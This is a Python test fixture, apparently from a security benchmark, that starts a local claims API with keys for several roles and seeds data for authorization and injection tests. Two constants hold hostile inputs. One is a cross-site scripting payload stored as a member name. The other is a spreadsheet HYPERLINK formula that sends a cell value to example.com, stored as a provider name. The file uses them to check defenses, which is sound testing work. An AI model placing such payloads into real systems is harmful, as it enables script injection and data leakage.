"""The platform that is attacked: two providers with a claim each, a key of every role that attacks, and what exists."""

import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Final

import httpx
from pydantic import JsonValue, TypeAdapter

from api.request_signing import RequestSigner
from api.signed_requests import may_be_confirmed
from benchmarks.platform import COMMAND, create_key, free_routes, platform, register_signer
from benchmarks.stage import ReportProgress, Stage, staged
from core.openapi_document import OpenApiDocument

_OBJECT: Final = TypeAdapter(dict[str, JsonValue])
_ROWS: Final = TypeAdapter(list[dict[str, JsonValue]])
ROLES: Final = ("admin", "claims_system", "investigator", "monitoring")
"""Whose keys the attacks use beside a provider's."""
HISTORY: Final = 3_000
LIVE: Final = 200
TREES: Final = 30
REQUEST_S: Final = 30.0
HOSTILE_NAME: Final = '"><svg/onload=alert(1)><script>alert(2)</script>\u0027-alert(3)-\u0027'
"""Stored in every text that the API accepts; a page must show it as text."""
FORMULA_NAME: Final = '=HYPERLINK("http://example.com/"&A1,"click")'


@dataclass(frozen=True, slots=True)
class AttackedOperation:
    """One operation of the API's description."""

    method: str
    path: str
    queries: tuple[str, ...]
    media_type: str | None
    """Of the body; `None`: it has none."""

    def __str__(self) -> str:
        return f"{self.method} {self.path}"

    @property
    def names(self) -> list[str]:
        """Parameters of the path."""
        return re.findall(r"\{(\w+)\}", self.path)

    def at(self, values: Mapping[str, str]) -> str:
        """The path with values for its parameters."""
        path = self.path
        for name in self.names:
            path = path.replace(f"{{{name}}}", values[name])
        return path


@dataclass(frozen=True, slots=True)
class AttackScene:
    """What an attack has at hand."""

    port: int
    """Of the API on the loopback address."""
    client: httpx.Client
    keys: Mapping[str, str]
    """Secrets by role; `provider` is the attacker, whose claim is `own`."""
    operations: Sequence[AttackedOperation]
    own: Mapping[str, JsonValue]
    """A claim of the attacking provider, as submitted."""
    foreign: Mapping[str, str]
    """By name of the path's parameter: ids of things that exist and belong to others."""
    other_provider: str
    signer: RequestSigner
    """Its key is registered for the admin's API key."""

    def send(
        self,
        method: str,
        path: str,
        role: str | None = None,
        *,
        headers: Mapping[str, str] | None = None,
        json: object = None,
        data: Mapping[str, str] | None = None,
        content: bytes | None = None,
    ) -> httpx.Response:
        """Send a request with the key of a role; none: without a key."""
        sent = {} if role is None else {"Authorization": f"Bearer {self.keys[role]}"}
        request = self.client.build_request(
            method, path, headers=sent | dict(headers or {}), json=json, data=data, content=content
        )
        if role == "admin" and may_be_confirmed(method, request.url.path):
            _sign(request, self.signer)
        return self.client.send(request)

    def signed_by(self, role: str, path: str, body: bytes, signer: RequestSigner | None = None) -> httpx.Request:
        """A signed request with the API key of a role, which is not sent yet."""
        headers = {"Authorization": f"Bearer {self.keys[role]}", "Content-Type": "application/json"}
        request = self.client.build_request("POST", path, headers=headers, content=body)
        _sign(request, signer or self.signer)
        return request


def _sign(request: httpx.Request, signer: RequestSigner) -> None:
    request.headers.update(signer.sign(request.method, str(request.url), dict(request.headers), request.content))


@contextmanager
def scene(report: ReportProgress) -> Iterator[AttackScene]:
    """A platform with data to attack, on free ports; removed with the block."""
    with (
        staged(report, claims=HISTORY, live_claims=LIVE, trees=TREES) as stage,
        platform(stage, free_routes()) as running,
        httpx.Client(base_url=f"http://127.0.0.1:{running.routes.api_port}", timeout=REQUEST_S) as client,
    ):
        report("submitting claims to attack")
        bodies = [json.loads(body) for body in running.bodies()]
        own = bodies[0]
        other = next(body for body in bodies if body["provider_id"] != own["provider_id"])
        keys = {role: create_key(stage, role) for role in ROLES}
        keys["provider"] = _provider_key(stage, own["provider_id"])
        key_file = stage.home / "attacker.pem"
        register_signer(stage, "admin", key_file)
        signer = RequestSigner(key_file.read_text())
        yield set_scene(client, running.routes.api_port, keys, own, other, signer)


def set_scene(
    client: httpx.Client,
    port: int,
    keys: Mapping[str, str],
    own: Mapping[str, JsonValue],
    other: Mapping[str, JsonValue],
    signer: RequestSigner,
) -> AttackScene:
    """Submit a claim of the attacking provider and one of another, and create what there is to attack.

    `keys` are secrets of admin, claims system, investigator, monitoring, and of the provider of `own`; the key of
    `signer` is registered for the one of admin.
    """

    def created(path: str, body: object, role: str = "admin") -> dict[str, JsonValue]:
        headers = {"Authorization": f"Bearer {keys[role]}"}
        response = client.post(path, json=body, headers=headers)
        if response.status_code not in (200, 201, 202):
            raise RuntimeError(f"POST {path} answered {response.status_code}: {response.text}")
        return _OBJECT.validate_json(response.content)

    claim = created("/v1/claims", other, "claims_system")
    created("/v1/claims", own, "claims_system")

    def first(path: str, field: str) -> JsonValue:
        listed = client.get(f"{path}?limit=1", headers={"Authorization": f"Bearer {keys['admin']}"})
        return rows(listed)[0][field]

    file = {"format": "csv", "size": 10, "sha256": "ab" * 32}
    member = {"member_id": "M-ATTACKED", "name": HOSTILE_NAME, "birth_date": "1980-03-02", "plan_id": "PL1"}
    member |= {"first_day": "2026-01-01"}
    created("/v1/members", {**member, "plan_id": first("/v1/members", "plan_id")})
    provider = {"provider_id": "H-ATTACKED", "name": FORMULA_NAME, "first_day": "2026-01-01"}
    created("/v1/providers", {**provider, "specialty": first("/v1/providers", "specialty")})
    foreign = {
        "claim_id": str(claim["claim_id"]),
        "job_id": str(created("/v1/bulk/claims", file, "claims_system")["job_id"]),
        "member_id": "M-ATTACKED",
        "provider_id": "H-ATTACKED",
        "version": "1",
    }
    description: OpenApiDocument = client.get("/openapi.json").json()
    return AttackScene(
        port, client, keys, list(_operations(description)), own, foreign, str(other["provider_id"]), signer
    )


def rows(listed: httpx.Response) -> list[dict[str, JsonValue]]:
    """The items of a page of a list."""
    page = _OBJECT.validate_json(listed.content)
    return _ROWS.validate_python(next((value for value in page.values() if isinstance(value, list)), []))


def _provider_key(stage: Stage, provider_id: str) -> str:
    """Create a key of a provider; returns its secret."""
    command = ["keys", "create", "--name", "attacker", "--role", "provider", "--provider", provider_id]
    done = subprocess.run(
        [sys.executable, *COMMAND, *command],
        env={**os.environ, **stage.environment},
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        check=True,
    )
    return done.stdout.decode().strip()


def _operations(description: OpenApiDocument) -> Iterator[AttackedOperation]:
    for path, methods in description["paths"].items():
        for method, described in methods.items():
            queries = tuple(one["name"] for one in described.get("parameters", ()) if one["in"] == "query")
            media = next(iter(described.get("requestBody", {}).get("content", {})), None)
            yield AttackedOperation(method.upper(), path, queries, media)
